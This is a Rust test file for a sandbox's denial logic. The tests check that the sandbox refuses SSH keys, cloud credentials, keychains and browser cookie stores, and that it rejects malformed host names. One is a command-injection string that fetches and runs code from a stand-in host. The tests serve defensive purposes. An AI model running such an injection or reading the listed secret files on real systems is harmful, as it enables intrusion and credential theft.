use super::*;

// Proves S-68.
#[test]
fn a_folder_around_keys_is_not_offered() {
    let home = std::env::home_dir().expect("a home");
    let data = tempfile::tempdir().expect("a folder");
    let offered = |path: PathBuf| NamedPath::look(path, data.path()).denial(7).path;
    for around in [".config", ".local/share"] {
        assert_eq!(offered(home.join(around)), None, "{around}");
    }
    let own = home.join(".config/a-server-of-this-name");
    assert_eq!(offered(own.clone()), own.to_str().map(str::to_owned));
}

// Proves S-68, S-92.
#[cfg(unix)]
#[test]
fn keys_keychains_browser_profiles_and_our_data_are_told_and_not_offered() {
    let home = std::env::home_dir().expect("a home");
    let folder = tempfile::tempdir().expect("a folder");
    let data = folder.path().canonicalize().expect("it is there");
    let plain = tempfile::tempdir().expect("a folder");
    let socket = plain.path().join("socket");
    let _listener = std::os::unix::net::UnixListener::bind(&socket).expect("a socket");
    let denial = |path: PathBuf| NamedPath::look(path, &data).denial(7);
    let places = [
        ".ssh/id_ed25519",
        ".gnupg/private-keys-v1.d",
        ".aws/credentials",
        ".local/share/keyrings/login.keyring",
        ".local/share/kwalletd/kdewallet.kwl",
        "Library/Keychains/login.keychain-db",
        ".mozilla/firefox/a.default/cookies.sqlite",
        ".config/google-chrome/Default/Login Data",
        ".config/google-chrome-beta/Default/Cookies",
        ".var/app/org.mozilla.firefox/.mozilla",
        "notes/.env",
    ];
    let ours = ["", "portcullis.db", "homes/a/notes.txt"].map(|name| data.join(name));
    let others = [
        home.clone(),
        PathBuf::from("/"),
        PathBuf::from("/dev/null"),
        socket,
    ];
    for path in places
        .map(|place| home.join(place))
        .into_iter()
        .chain(ours)
        .chain(others)
    {
        let denial = denial(path.clone());
        assert_eq!(denial.path, None, "{path:?}");
        assert!(!denial.what.text.is_empty(), "it is told: {path:?}");
    }
    let notes = plain.path().join("notes.txt");
    assert_eq!(
        denial(notes.clone()).path.as_deref(),
        notes.to_str(),
        "the control"
    );
}

// Proves S-68.
#[cfg(target_os = "linux")]
#[test]
fn what_every_fence_shows_is_not_said_to_be_hidden() {
    let folder = tempfile::tempdir().expect("a folder");
    let program = folder.path().join("server");
    std::fs::write(&program, "").expect("written");
    let visible = VisiblePaths(portcullis_process::shown_anyway(Some(&program), false));
    let program = program.to_str().expect("text");
    for path in [
        "/dev/null",
        "/dev/stdout",
        "/proc/self/status",
        "/etc/passwd",
        "/etc/hosts",
        program,
    ] {
        assert!(!visible.hides(Path::new(path)), "{path}");
    }
    assert!(visible.hides(folder.path()), "the control");
}

#[cfg(not(target_os = "linux"))]
#[tokio::test]
async fn a_system_without_fences_is_not_called_an_incomplete_installation() {
    let fixture = crate::host::launches::tests::Fixture::new().await;
    let why = fixture.host.0.fence_unavailable().await.expect("no fence");
    assert!(!why.contains(crate::places::FENCE_PROGRAM), "{why}");
    assert!(why.contains("operating system"), "{why}");
    fixture.host.close().await;
}

#[cfg(target_os = "linux")]
#[tokio::test]
async fn a_missing_helper_of_the_fence_is_said_in_a_sentence() {
    let fixture = crate::host::launches::tests::Fixture::new().await;
    let why = fixture.host.0.fence_unavailable().await.expect("no fence");
    assert_eq!(
        why,
        format!("The program {} is missing.", crate::places::FENCE_PROGRAM)
    );
    fixture.host.close().await;
}

// Proves S-68.
#[test]
fn what_is_no_name_of_a_host_is_told_and_not_offered() {
    let described = |name: &str| {
        let name = name.to_owned();
        described(&Denial::Host { name, port: None }, 7)
    };
    assert!(described("api.example.com").host.is_some());
    for odd in [
        "$(curl${IFS}evil|sh).example",
        "a;b.example",
        "-a.example",
        "10.0.0.1",
    ] {
        let denial = described(odd);
        assert_eq!((denial.host, denial.what.text.as_str()), (None, odd));
    }
}

// Proves S-62, S-68.
#[test]
fn a_host_in_the_local_network_is_offered_as_such_and_what_no_grant_opens_is_not() {
    let inward = |address: &str, port| {
        described(
            &Denial::Inward {
                name: "nas.local".to_owned(),
                address: address.parse().expect("an address"),
                port,
            },
            7,
        )
    };
    let denial = inward("192.168.1.20", Some(5000));
    assert_eq!(denial.what.text, "nas.local:5000 (192.168.1.20)");
    let offered = denial.host.expect("an offer");
    assert!(offered.local_network);
    assert_eq!(offered.address(), "nas.local:5000");
    let denial = inward("169.254.169.254", None);
    assert_eq!(
        (denial.host, denial.what.text.as_str()),
        (None, "nas.local (169.254.169.254)")
    );
    let address = |text: &str, private| {
        let address = text.parse().expect("an address");
        let port = 5432;
        described(
            &Denial::Address {
                address,
                port,
                private,
            },
            7,
        )
        .host
    };
    let offered = address("192.168.1.20", true).expect("an offer");
    assert!(offered.local_network);
    assert_eq!(offered.address(), "192.168.1.20:5432");
    assert_eq!(address("93.184.216.34", false), None);
}

// Proves S-68.
#[test]
fn what_is_kept_out_is_told_once_newest_first_and_within_bounds() {
    let mut denials = FenceDenials::default();
    let named = |name: &str| {
        let host = Denial::Host {
            name: name.to_owned(),
            port: Some(443),
        };
        described(&host, 7)
    };
    assert!(denials.add(named("a.example")));
    assert!(denials.add(named("b.example")));
    assert!(!denials.add(named("a.example")), "told already");
    let shown: Vec<_> = denials
        .list
        .iter()
        .map(|denial| (denial.what.text.as_str(), denial.count))
        .collect();
    assert_eq!(shown, [("a.example:443", 2), ("b.example:443", 1)]);
    let tool = portcullis_core::text::escape_line("look");
    denials.were_during(&[named("b.example").what], &tool);
    let during: Vec<_> = denials.list.iter().map(|denial| denial.tool.is_some()).collect();
    assert_eq!(during, [false, true]);
    for number in 0..2 * limits::FENCE_DENIALS {
        denials.add(named(&format!("{number}.example")));
    }
    assert_eq!(denials.list.len(), limits::FENCE_DENIALS);
}

#[test]
fn npm_is_hidden_from_a_fetched_package_that_may_not_install_more() {
    let packages = Path::new("/data/packages");
    let fence = |own: &str, hosts: &[&str]| LaunchFence {
        own: vec![own.into()],
        hosts: hosts.iter().map(|name| FenceHost::new(*name, HTTPS)).collect(),
        ..LaunchFence::default()
    };
    let fetched = "/data/packages/1/tree";
    assert_eq!(
        hidden(&fence(fetched, &["example.com"]), packages).len(),
        NPM.len()
    );
    assert!(hidden(&fence(fetched, &[NPM_REGISTRY]), packages).is_empty());
    assert!(hidden(&fence("/data/packages-of-mine", &[]), packages).is_empty());
}
